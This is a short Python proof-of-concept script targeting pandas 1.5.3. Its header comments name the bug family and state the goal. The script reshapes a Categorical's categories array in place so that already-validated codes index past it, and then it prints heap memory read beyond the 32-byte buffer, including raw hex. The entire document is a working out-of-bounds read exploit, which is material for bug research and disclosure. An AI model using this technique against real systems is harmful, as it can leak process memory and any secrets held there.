# source: numpy docs, ndarray.shape "setting arr.shape reshapes in place"; pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__array__ -> take_nd (cython take_1d/2d, no bounds check); Index.values returns the Index's own writable buffer
# family: in-place reshape of a pandas Index's backing array (categories) shrinks len() under codes pandas already validated -> unchecked take reads past the buffer
# goal: out-of-bounds heap read: rows 1..3 below come from memory past the 32-byte categories buffer
import numpy as np
import pandas as pd

c = pd.Categorical([3.0, 2.0, 1.0, 0.0], categories=[0.0, 1.0, 2.0, 3.0])
v = c.categories.values
v.shape = (1, 4)
print("len(categories) now", len(c.categories), "codes", c.codes.tolist(), flush=True)
out = np.asarray(c)
for code, row in zip(c.codes.tolist(), out):
    print("code", code, "row ->", row.tolist(), flush=True)
print("only 4 floats (0,1,2,3) exist; other values are heap words past the buffer; raw:", out[0].tobytes().hex(), flush=True)
